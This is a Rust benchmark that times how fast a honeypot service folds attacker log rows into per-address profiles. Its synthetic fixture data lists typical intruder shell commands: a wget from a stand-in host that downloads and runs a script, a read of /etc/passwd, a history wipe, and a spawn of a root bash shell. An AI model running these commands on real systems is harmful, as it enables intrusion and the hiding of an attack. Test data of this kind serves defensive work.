//! The profiler's pure fold: log rows folded into profiles per second, without a database. A page
//! of 5,000 rows over 100 addresses (a fifth of them shell `CMD` lines, some with sizes and
//! command fields), folded from nothing and onto profiles that already hold state.
//!
//!     cargo bench -p svc-workers --bench profiler_fold
//!
//! Measured on the shared 2-core build machine: about 1.4 million rows/s either way (3.5 ms a page).

use chrono::{TimeZone, Utc};
use criterion::{BatchSize, Criterion, Throughput, criterion_group, criterion_main};
use svc::db::{AttackerEvidence, AttackerProfile, LogRecord};
use svc_workers::profiler::fold;

const ROWS: usize = 5_000;
const ADDRESSES: usize = 100;
const COMMANDS: [&str; 6] = [
    "ls -la /root",
    "cat /etc/passwd | grep sh | wc -l",
    "wget http://198.51.100.1/x.sh -O /tmp/x.sh && chmod +x /tmp/x.sh && /tmp/x.sh",
    "uname -a; id; w",
    "history -c; unset HISTFILE",
    "sudo -u root env X=1 /usr/bin/python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
];

fn rows() -> Vec<LogRecord> {
    let start = Utc.timestamp_opt(1_800_000_000, 0).unwrap();
    (0..ROWS)
        .map(|i| {
            let ip = format!("10.0.{}.{}", i % ADDRESSES / 256, i % ADDRESSES % 256);
            let (event_type, service, fields, msg) = match i % 5 {
                0 => (
                    "command",
                    "bash",
                    "{}".to_string(),
                    Some(format!("CMD uid=0 user=root src={ip} pwd=/root cmd={}", COMMANDS[i % 6])),
                ),
                1 => ("login_attempt", "ssh", r#"{"username":"root","password":"hunter2"}"#.to_string(), None),
                2 => ("request", "http", format!(r#"{{"method":"GET","path":"/x{i}","size":{}}}"#, i * 300), None),
                3 => ("sql_query", "mysql", r#"{"sql":"select * from users"}"#.to_string(), None),
                _ => ("connection", "ftp", "{}".to_string(), None),
            };
            LogRecord {
                id: i as i64 + 1,
                timestamp: start + chrono::Duration::milliseconds(i as i64 * 137),
                decky: format!("decky-{}", i % 7),
                service: service.into(),
                event_type: event_type.into(),
                attacker_ip: ip,
                raw_line: String::new(),
                fields,
                msg,
                trace_id: None,
                span_id: None,
                host_uuid: None,
            }
        })
        .collect()
}

/// Folds a page the way the worker does: grouped by address, each onto its stored profile.
fn fold_page(rows: &[LogRecord], stored: &[Option<AttackerProfile>]) -> Vec<AttackerProfile> {
    let mut by_ip: std::collections::BTreeMap<&str, Vec<&LogRecord>> = Default::default();
    for row in rows {
        by_ip.entry(row.attacker_ip.as_str()).or_default().push(row);
    }
    let evidence = AttackerEvidence {
        fingerprints: vec![r#"{"ja3":"771,4865"}"#.into()],
        bounty_count: 3,
        credential_count: 1,
        ..Default::default()
    };
    by_ip
        .iter()
        .zip(stored)
        .filter_map(|((ip, rows), stored)| fold::fold(ip, stored.as_ref(), rows, &evidence, Utc::now()))
        .map(|folded| folded.profile)
        .collect()
}

fn bench(c: &mut Criterion) {
    let rows = rows();
    let fresh = vec![None; ADDRESSES];
    let stored: Vec<Option<AttackerProfile>> = fold_page(&rows, &fresh).into_iter().map(Some).collect();
    let later: Vec<LogRecord> = rows
        .iter()
        .map(|r| LogRecord { id: r.id + ROWS as i64, timestamp: r.timestamp + chrono::Duration::hours(1), ..r.clone() })
        .collect();

    let mut group = c.benchmark_group("profiler_fold");
    group.throughput(Throughput::Elements(ROWS as u64));
    group.bench_function("5000_rows_100_addresses_new", |b| {
        b.iter_batched(|| fresh.clone(), |fresh| fold_page(&rows, &fresh), BatchSize::SmallInput)
    });
    group.bench_function("5000_rows_100_addresses_stored", |b| {
        b.iter_batched(|| stored.clone(), |stored| fold_page(&later, &stored), BatchSize::SmallInput)
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
